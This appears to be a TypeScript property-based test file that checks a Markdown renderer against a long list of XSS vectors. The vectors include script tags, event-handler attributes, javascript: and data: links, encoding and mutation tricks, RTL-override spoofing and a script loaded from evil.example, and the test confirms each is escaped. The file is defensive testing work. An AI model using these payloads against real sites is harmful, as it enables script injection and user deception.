import fc from 'fast-check';
import { renderMarkdown, renderSanitized } from './render-markdown.ts';

/** Every tag that may be rendered, exactly. Any other `<` or `>` must be escaped. */
const safeTag = new RegExp(
  [
    '</?(?:em|strong|s|code)>',
    '<pre tabindex="0">',
    '<br />',
    '</(?:p|blockquote|ul|ol|li|a|pre)>',
    '<(?:p|blockquote|ul|ol|li|code) dir="(?:auto|rtl)">',
    '<ol(?: start="\\d+")?(?: data-digits="\\d")? dir="(?:auto|rtl)">',
    '<li value="\\d+" dir="(?:auto|rtl)">',
    '<a(?: href="(?:https?://|mailto:)[^"<>\\s]*")? rel="nofollow ugc noopener" dir="(?:auto|ltr)">',
  ].join('|'),
  'g',
);

const expectSafe = (text: string): void => {
  const html = renderMarkdown(text);
  expect(html).toBe(renderSanitized(text));
  expectRunsEnded(html);
  expect({ text, html, leftOver: html.replace(safeTag, '').match(/[<>]/g) }).toEqual({ text, html, leftOver: null });
};

/** Checks that no line leaves a directional run open. */
const expectRunsEnded = (html: string): void => {
  for (const line of html.split('\n')) {
    const opened = line.match(/[\u202a\u202b\u202d\u202e]/g) ?? [];
    expect((line.match(/\u202c/g) ?? []).length).toBeGreaterThanOrEqual(opened.length);
  }
};

const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\u0000>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert&#40;1&#41;</script>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=javascript:alert(1)>',
  '<style>@import "javascript:alert(1)";</style>',
  '<div style="background:url(javascript:alert(1))">',
  '<p onclick=alert(1) dir="auto">x</p>',
  '<p dir="auto" onmouseover="alert(1)">x',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><script>alert(1)</script>',
  '<title></title><img src=x onerror=alert(1)>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><script>alert(1)',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x](/relative)',
  '[x](\\\\evil.example)',
  '[x](<javascript:alert(1)>)',
  '[x](https://a.example "onmouseover=alert(1)")',
  '[x](https://a.example/" onmouseover="alert(1))',
  "[x](https://a.example/' onmouseover='alert(1))",
  '[x](https://a.example/?q=<script>alert(1)</script>)',
  '[<script>alert(1)</script>](https://a.example)',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x][1]\n\n[1]: data:text/html,<script>alert(1)</script> "t"',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '<https://a.example/"onmouseover="alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://a.example/x.png"onerror="alert(1))',
  'https://a.example/"onmouseover="alert(1)',
  'https://a.example/<script>alert(1)</script>',
  'javascript:alert(1)',
  'mailto:a@b.example?body=<script>alert(1)</script>',
  '```"><script>alert(1)</script>\nx\n```',
  '~~~ js onmouseover=alert(1)\n<script>alert(1)</script>\n~~~',
  '`<script>alert(1)</script>`',
  '> <script>alert(1)</script>',
  '- <img src=x onerror=alert(1)>',
  '1. <svg/onload=alert(1)>',
  '**<b onclick=alert(1)>**',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\<script>alert(1)\\</script>',
  '<<script>alert(1);//<</script>',
  '"><script>alert(1)</script>',
  '\'"--></style></script><script>alert(1)</script>',
  '<a/href="j&Tab;a&Tab;vascript:alert(1)">x',
  '＜script＞alert(1)＜/script＞',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '{{constructor.constructor("alert(1)")()}}',
  '\u202e<script>alert(1)</script>',
  '[\u202egpj](https://a.example/\u202e"x)',
  '&#x202e;\u2067**a\u202b** `\u202d`',
  '```\n\u202ea\n```',
  '2019. <b value="1">\n2021. " onclick="alert(1)',
  '[bank.example](https://evil.example)',
  'https://\u0430\u0440\u0440\u04cf\u0435.com"onclick="alert(1)',
];

describe('an attack through Markdown', () => {
  it.each(vectors)('is rendered harmless: %j', (vector) => {
    expectSafe(vector);
    expectSafe(`A harmless start. ${vector} [and](https://a.example) an end.`);
    expectSafe(`*${vector}*\n\n> ${vector}\n\n\`\`\`\n${vector}`);
  });

  it('is rendered harmless when vectors are cut and mixed at random', () => {
    const piece = fc
      .constantFrom(...vectors)
      .chain((vector) =>
        fc
          .tuple(fc.nat(vector.length), fc.nat(vector.length))
          .map(([one, other]) => vector.slice(Math.min(one, other), Math.max(one, other))),
      );
    const glue = fc.constantFrom('', ' ', '\n', '\n\n', '](', '[', '`', '<', '>', '"', '\\', '*', '&');
    const text = fc.array(fc.tuple(piece, glue), { maxLength: 8 }).map((parts) => parts.flat().join(''));
    fc.assert(fc.property(text, expectSafe), { numRuns: 2000 });
  });
});
